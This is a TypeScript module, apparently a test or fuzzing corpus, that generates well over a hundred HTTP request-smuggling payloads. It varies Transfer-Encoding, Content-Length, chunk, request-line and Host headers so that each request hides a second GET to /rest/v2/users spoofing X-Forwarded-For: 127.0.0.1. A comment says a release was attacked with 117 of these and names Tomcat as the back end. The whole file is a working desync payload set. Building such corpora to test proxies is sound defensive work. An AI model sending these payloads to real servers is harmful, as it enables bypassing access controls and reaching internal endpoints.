/** Requests whose end one server could see elsewhere than another; what is hidden in each asks for the server's REST. */
const hidden = "GET /rest/v2/users HTTP/1.1\r\nHost: live.example.com\r\nX-Forwarded-For: 127.0.0.1\r\n\r\n";
const chunk = `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`;

const post = (headers: readonly string[], body: string, line = "POST /live/x HTTP/1.1", end = "\r\n"): string =>
  [line, "Host: live.example.com", ...headers, "", body].join(end);

/** Ways to write that a body comes in chunks, most of them wrong. */
const transferEncodings = [
  "Transfer-Encoding: chunked",
  "Transfer-Encoding : chunked",
  "Transfer-Encoding:\tchunked",
  "Transfer-Encoding: \tchunked ",
  "Transfer-Encoding:chunked",
  "Transfer-Encoding: xchunked",
  "Transfer-Encoding: chunkedx",
  "Transfer-Encoding: chunked, identity",
  "Transfer-Encoding: identity, chunked",
  "Transfer-Encoding: gzip, chunked",
  "Transfer-Encoding: chunked, chunked",
  "Transfer-Encoding: CHUNKED",
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: ,chunked",
  "Transfer-Encoding: chunked;x=1",
  "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
  "Transfer-Encoding:\r\n chunked",
  "Transfer-Encoding:\r\n\tchunked",
  "Transfer-Encoding:\n chunked",
  "X: y\nTransfer-Encoding: chunked",
  "X: y\rTransfer-Encoding: chunked",
  "Transfer_Encoding: chunked",
  "Transfer-Encoding\0: chunked",
  "Transfer-Encoding: chunked\0",
  "\x0bTransfer-Encoding: chunked",
  " Transfer-Encoding: chunked",
  "Transfer-Encoding: \x0bchunked",
  "Transfer-Encoding: \x00chunked",
  "tRANSFER-eNCODING: chunked",
] as const;

const lengths = (body: string): readonly string[] => [
  `Content-Length: ${body.length}\r\nContent-Length: 0`,
  `Content-Length: 0\r\nContent-Length: ${body.length}`,
  `Content-Length: 0, ${body.length}`,
  `Content-Length: ${body.length}, ${body.length}`,
  "Content-Length: 0",
  "Content-Length: +0",
  "Content-Length: -0",
  "Content-Length: -1",
  "Content-Length: 0x0",
  "Content-Length: 0 0",
  "Content-Length: 00",
  "Content-Length : 0",
  "Content-Length:\r\n 0",
  "Content-Length: 0\0",
  "Content-Length:",
  "Content-Length: 99999999999999999999",
  "Content_Length: 0",
];

const chunks = [
  `0\r\n\r\n${hidden}`,
  `0;x=1\r\n\r\n${hidden}`,
  `0;x="\r\n\r\n${hidden}`,
  `0 \r\n\r\n${hidden}`,
  `0x0\r\n\r\n${hidden}`,
  `00000000000000000\r\n\r\n${hidden}`,
  `0\n\n${hidden}`,
  `0\r\nX: y\r\n\r\n${hidden}`,
  `0\r\nContent-Length: 0\r\n\r\n${hidden}`,
  `-1\r\n\r\n${hidden}`,
  `1\r\nAB\r\n0\r\n\r\n${hidden}`,
  `1\nA\n0\n\n${hidden}`,
  `1;\n\r\nA\r\n0\r\n\r\n${hidden}`,
  `10000000000000001\r\nA\r\n0\r\n\r\n${hidden}`,
  `g\r\n${hidden}`,
  chunk,
];

const lines = [
  "POST /live/x HTTP/1.0",
  "POST /live/x HTTP/1.1 ",
  "POST  /live/x HTTP/1.1",
  "POST\t/live/x\tHTTP/1.1",
  "POST /live/x HTTP/1.1\r\n ",
  "POST /live/x HTTP/1.1\rX: y",
  "POST /live/x HTTP/2.0",
  "POST /live/x HTTP/0.9",
  "POST /live/x http/1.1",
  "POST /live/x\0 HTTP/1.1",
  "GET /live/x HTTP/1.1",
  "HEAD /live/x HTTP/1.1",
  "CONNECT live.example.com:80 HTTP/1.1",
  "CONNECT /live/x HTTP/1.1",
  "TRACE /live/x HTTP/1.1",
  "OPTIONS * HTTP/1.1",
  "POST http://live.example.com/live/x HTTP/1.1",
  "\r\nPOST /live/x HTTP/1.1",
  "PRI * HTTP/2.0",
];

const hosts = [
  "Host: live.example.com\r\nHost: elsewhere.example",
  "Host: elsewhere.example",
  "Host: live.example.com\r\n elsewhere.example",
  "Host : elsewhere.example",
  "Host: live.example.com:80@elsewhere.example",
  "Host: live.example.com\0",
];

/**
 * More than the 117 that a release was attacked with. What follows a request that a proxy has read to its end is another
 * request, which the proxy judges as such; the hidden one is smuggled when Tomcat has it.
 */
export const smuggling: readonly string[] = [
  ...transferEncodings.flatMap((header) => [
    post([`Content-Length: ${chunk.length + 5}`, header], `0\r\n\r\n${hidden}`),
    post(["Content-Length: 4", header], chunk),
    post([header, "Content-Length: 0"], `0\r\n\r\n${hidden}`),
  ]),
  ...lengths(hidden).map((header) => post([header], hidden)),
  ...chunks.map((body) => post(["Transfer-Encoding: chunked"], body)),
  ...lines.flatMap((line) => [
    post(["Content-Length: 0"], hidden, line),
    post(["Transfer-Encoding: chunked"], `0\r\n\r\n${hidden}`, line),
  ]),
  ...hosts.map((header) => post([header, "Content-Length: 0"], hidden)),
  post(["Content-Length: 0"], hidden, "POST /live/x HTTP/1.1", "\n"),
  post([`Content-Length: ${hidden.length}`, "Expect: 100-continue"], hidden),
  post(["Content-Length: 0", "Expect: 100-continue"], hidden),
  post(["Content-Length: 0", "Connection: Content-Length"], hidden),
  post(["Transfer-Encoding: chunked", "Connection: Transfer-Encoding"], chunk),
  post(["Content-Length: 0", "Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 99"], hidden),
];
